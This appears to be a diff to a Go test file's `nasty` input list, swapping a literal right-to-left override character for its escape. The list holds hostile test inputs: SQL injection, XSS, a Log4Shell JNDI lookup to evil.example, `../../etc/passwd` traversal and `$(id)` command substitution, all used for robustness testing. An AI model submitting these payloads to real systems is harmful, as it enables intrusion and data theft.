@@ -273,7 +273,7 @@ func (w *walk) bombs(t *testing.T) {
 var nasty = []string{
 	`'; drop table access_user; --`, `" or "1"="1`, `x' or 1=1) --`, `\`, `%`, `_%`, "a\x00b", "line\nlevel=ERROR msg=forged", "\x1b[31mred",
 	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `{{7*7}}`, `${jndi:ldap://evil.example/a}`, `../../etc/passwd`, `$(id)`,
-	strings.Repeat("é", 400), "\xff\xfe", "‮gnp.exe", `1e999`, `-1`, `9223372036854775808`, `2026-02-31`,
+	strings.Repeat("é", 400), "\xff\xfe", "\u202egnp.exe", `1e999`, `-1`, `9223372036854775808`, `2026-02-31`,
 }
 
 // named finds the fields of forms.
